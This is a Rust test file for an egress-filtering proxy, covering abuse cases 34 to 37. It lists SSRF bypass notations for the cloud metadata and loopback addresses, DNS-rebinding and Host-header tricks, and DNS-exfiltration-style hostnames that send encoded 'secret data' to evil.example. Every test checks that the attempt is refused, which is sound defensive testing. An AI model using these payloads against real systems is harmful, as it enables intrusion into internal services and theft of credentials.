//! Where a box tries to get that it may not: abuse cases 34 to 37.

use serde_json::json;
use stead_core::code;
use stead_egress::{Event, Name, Resolve, SystemResolver};

use crate::{
    http::echo_world,
    server::{Server, full, ok},
    world::{World, body, refused},
};

/// Case 34: the metadata address in every notation, by a URL and by a tunnel.
#[tokio::test]
async fn an_address_in_any_notation_is_refused_and_on_record() {
    let world = World::new().await;
    world.rules(json!(["http://*.test.example", "*.test.example"]));
    let notations = [
        "169.254.169.254",
        "169.254.169.254.",
        "2852039166",
        "0xa9fea9fe",
        "0XA9.0xFE.0xA9.0xFE",
        "0251.0376.0251.0376",
        "025177524776",
        "0xa9.254.43518",
        "169.16689662",
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[fd00:ec2::254]",
        "[fe80::1%25eth0]",
        "[64:ff9b::169.254.169.254]",
        "[2002:a9fe:a9fe::]",
        "127.0.0.1",
        "127.1",
        "0",
        "[::1]",
        "[::]",
        "①⑥⑨.254.169.254",
        "169。254。169。254",
    ];
    for host in notations {
        let plain = world.raw(format!("GET http://{host}/latest/meta-data/ HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
        let tunnel = world.raw(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")).await;
        for answer in [plain, tunnel] {
            // What is not even ASCII is no request.
            let strange = !host.is_ascii() && answer.starts_with("HTTP/1.1 400 ");
            assert!(strange || answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
        }
    }
    assert_eq!(world.record.denied().len(), 2 * notations.len(), "each is on record");
    assert!(world.dns.asked().is_empty());
}

/// Cases 34 and 36: a name that leads inside is refused by its address, in every form that DNS can give.
#[tokio::test]
async fn a_name_that_leads_inside_is_refused_by_its_address() {
    let world = World::new().await;
    let canary = Server::http(|_| ok("inside")).await;
    world.rules(json!([{ "host": "*.test.example", "scheme": "http", "ports": [canary.port] },
        { "host": "*.test.example", "ports": [canary.port] }]));
    let inside = [
        "127.0.0.1",
        "127.8.8.8",
        "0.0.0.0",
        "10.0.0.1",
        "100.64.0.1",
        "169.254.169.254",
        "172.16.0.1",
        "192.168.0.1",
        "::1",
        "::",
        "::ffff:127.0.0.1",
        "64:ff9b::7f00:1",
        "64:ff9b:1::7f00:1",
        "2002:7f00:1::",
        "2001:0:4136:e378:8000:63bf:80ff:fffe",
        "fd00:ec2::254",
        "fe80::1",
        "fec0::1",
        "ff02::1",
        "224.0.0.1",
        "255.255.255.255",
    ];
    for address in inside {
        world.dns.set("a.test.example", &[address]);
        let at = format!("a.test.example:{}", canary.port);
        refused(&world.get(&format!("http://{at}/")).await, code::EGRESS_ADDRESS);
        let tunnel = world.raw(format!("CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n")).await;
        refused(&tunnel, code::EGRESS_ADDRESS);
        assert!(
            !tunnel.contains(&format!("{address} ")) && !tunnel.contains(&format!("{address}\"")),
            "no map: {tunnel}"
        );
    }
    assert_eq!(canary.connections(), 0);
    let named =
        world.record.entries().into_iter().filter(|e| matches!(e.event, Event::Denied { address: Some(_), .. }));
    assert_eq!(named.count(), 2 * inside.len(), "the record names the address");
}

#[tokio::test]
async fn the_systems_resolver_knows_this_machine() {
    let name = Name::parse("localhost").unwrap();
    let found = SystemResolver::default().resolve(&name, 80).await.unwrap();
    assert!(!found.is_empty() && found.iter().all(|a| a.ip().is_loopback() && a.port() == 80), "{found:?}");
}

/// Case 35: nothing of an unlisted host is asked for, and nothing else either.
#[tokio::test]
async fn no_question_leaves_for_an_unlisted_host() {
    let (world, server) = echo_world().await;
    for n in 0..20 {
        let host = format!("{n}.c2VjcmV0IGRhdGE.evil.example");
        refused(&world.get(&format!("http://{host}/")).await, code::EGRESS_DENIED);
        refused(
            &world.raw(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")).await,
            code::EGRESS_DENIED,
        );
        refused(&world.get(&format!("http://api.test:{}/", server.port + 1)).await, code::EGRESS_DENIED);
    }
    assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
    body(&world.get(&format!("http://api.test:{}/", server.port)).await);
    assert_eq!(world.dns.asked(), ["api.test"]);
}

/// Case 36: the address that was judged is the one that is spoken to, and each new connection is judged anew.
#[tokio::test]
async fn a_name_that_changes_its_address_gets_nowhere() {
    let world = World::new().await;
    let canary = Server::http(|_| ok("inside")).await;
    let server = Server::http_on(&format!("127.0.0.2:{}", canary.port), |_| ok("outside")).await;
    world.rules(json!([{ "host": "api.test", "scheme": "http", "ports": [server.port], "addresses": ["127.0.0.2"] }]));
    world.dns.set("api.test", &["127.0.0.2", "127.0.0.1"]);
    let at = format!("api.test:{}", server.port);
    let one = format!("GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n\r\n");
    let end = one.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n");
    let answers = world.raw(format!("{one}{one}{end}")).await;
    assert_eq!(answers.matches("outside").count(), 3, "{answers}");
    assert_eq!(world.dns.asked().len(), 1, "one question, one connection");
    refused(&world.raw(end).await, code::EGRESS_ADDRESS);
    assert_eq!((canary.connections(), server.connections()), (0, 1));
}

/// Case 37, what is in the request: another host in another place, tricks with names.
#[tokio::test]
async fn a_host_has_one_name_in_one_place() {
    let (world, server) = echo_world().await;
    let port = server.port;
    for (target, host) in [
        (format!("http://api.test:{port}/"), "evil.test".to_owned()),
        (format!("http://api.test:{port}/"), format!("api.test:{}", port + 1)),
        (format!("http://api.test:{port}/"), "api.test".to_owned()),
        (format!("http://api.test:{port}/"), format!("api.test.:{port}")),
        (format!("http://api.test.:{port}/"), format!("api.test.:{port}")),
        (format!("http://user@api.test:{port}/"), format!("api.test:{port}")),
        (format!("http://api.test:{port}@evil.test/"), format!("api.test:{port}")),
        (format!("http://evil.test@api.test:{port}/"), format!("evil.test@api.test:{port}")),
        (format!("http://api.test%2eevil.test:{port}/"), format!("api.test:{port}")),
        (format!("http://api.test:{port}\\@evil.test/"), format!("api.test:{port}")),
    ] {
        let answer = world.raw(format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
        assert!(answer.starts_with("HTTP/1.1 40"), "{target} {host}: {answer}");
    }
    for host in ["xapi.test", "api.test.evil.example", "api.testx", "api-test"] {
        refused(&world.get(&format!("http://{host}:{port}/")).await, code::EGRESS_DENIED);
    }
    for (target, host) in
        [("api.test.:443", "api.test.:443"), ("a@api.test:443", "api.test:443"), ("api.test:443", "evil.test:443")]
    {
        refused(&world.raw(format!("CONNECT {target} HTTP/1.1\r\nHost: {host}\r\n\r\n")).await, code::EGRESS_HOST);
    }
    assert_eq!((server.connections(), world.dns.asked().len()), (0, 0));
}

/// Case 37: the proxy hands a redirect on and follows none; the client that follows it is refused.
#[tokio::test]
async fn a_redirect_off_the_list_leads_nowhere() {
    let world = World::new().await;
    let canary = Server::http(|_| ok("inside")).await;
    let location = format!("Location: http://127.0.0.1:{}/\r\n", canary.port);
    let server = Server::http(move |_| full("302 Found", &location, "")).await;
    world.host("api.test");
    world
        .rules(json!([{ "host": "api.test", "scheme": "http", "ports": [server.port], "addresses": ["127.0.0.0/8"] }]));
    let url = format!("http://api.test:{}/", server.port);
    let answer = world.get(&url).await;
    assert!(answer.starts_with("HTTP/1.1 302 Found"), "{answer}");
    let followed = crate::clients::curl(&world, &["-L", &url]).await;
    assert!(followed.contains("ST0252"), "{followed}");
    assert_eq!(canary.connections(), 0);
}

/// Runs one test once more, with rights of its own over a network that has loopback only, after a script; or tells that this is that run.
async fn again(test: &str, script: &str) -> bool {
    const AGAIN: &str = "STEAD_TEST_AGAIN";
    if std::env::var_os(AGAIN).is_some() {
        return true;
    }
    let script = format!("ip link set lo up && {script} && exec \"$0\" --exact hosts::{test}");
    let mut again = tokio::process::Command::new("unshare");
    again.args(["--user", "--map-root-user", "--net", "--mount", "sh", "-c", &script]);
    again.arg(std::env::current_exe().unwrap()).env(AGAIN, "1");
    let output = crate::clients::run(again, "apt-get install util-linux iproute2").await;
    let (said, wrong) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success() && said.contains("1 passed"), "{said}{wrong} (apt-get install iproute2)");
    false
}

/// Case 35: no other name is made of a listed one by the system's search list, and asked for.
#[tokio::test]
async fn a_name_is_looked_up_as_it_is_and_as_no_other() {
    let resolv =
        "printf 'nameserver 127.0.0.1\\nsearch evil.example\\noptions ndots:9 attempts:1 timeout:1\\n' > \"$t/r\"";
    let script = format!("t=$(mktemp -d) && {resolv} && mount --bind \"$t/r\" /etc/resolv.conf");
    if !again("a_name_is_looked_up_as_it_is_and_as_no_other", &script).await {
        return;
    }
    let socket = tokio::net::UdpSocket::bind("127.0.0.1:53").await.unwrap();
    let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let names = asked.clone();
    tokio::spawn(async move {
        let mut question = [0; 512];
        loop {
            let (length, from) = socket.recv_from(&mut question).await.unwrap();
            names.lock().unwrap().push(crate::dns::name_of(&question[12..length]));
            // There is no such name (RFC 1035 section 4.1.1).
            (question[2], question[3]) = (0x81, 0x83);
            socket.send_to(&question[..length], from).await.unwrap();
        }
    });
    let name = Name::parse("api.test.example").unwrap();
    assert!(SystemResolver::default().resolve(&name, 80).await.is_err());
    let asked = asked.lock().unwrap().clone();
    assert!(!asked.is_empty() && asked.iter().all(|a| a == "api.test.example"), "{asked:?}");
}

/// An address of this machine is inside, though it be a public one: what listens here is not to be reached past the firewall in front.
#[tokio::test]
async fn a_public_address_of_this_machine_is_inside() {
    if !again("a_public_address_of_this_machine_is_inside", "ip addr add 9.9.9.9/32 dev lo").await {
        return;
    }
    let world = World::new().await;
    let canary = Server::http_on("9.9.9.9:0", |_| ok("inside")).await;
    world.dns.set("api.test", &["9.9.9.9"]);
    world.rules(json!([{ "host": "api.test", "scheme": "http", "ports": [canary.port] }]));
    let url = format!("http://api.test:{}/", canary.port);
    refused(&world.get(&url).await, code::EGRESS_ADDRESS);
    assert_eq!(canary.connections(), 0);
    // Unless a rule says that it is meant.
    world.rules(json!([{ "host": "api.test", "scheme": "http", "ports": [canary.port], "addresses": ["9.9.9.9"] }]));
    assert_eq!(body(&world.get(&url).await), "inside");
}
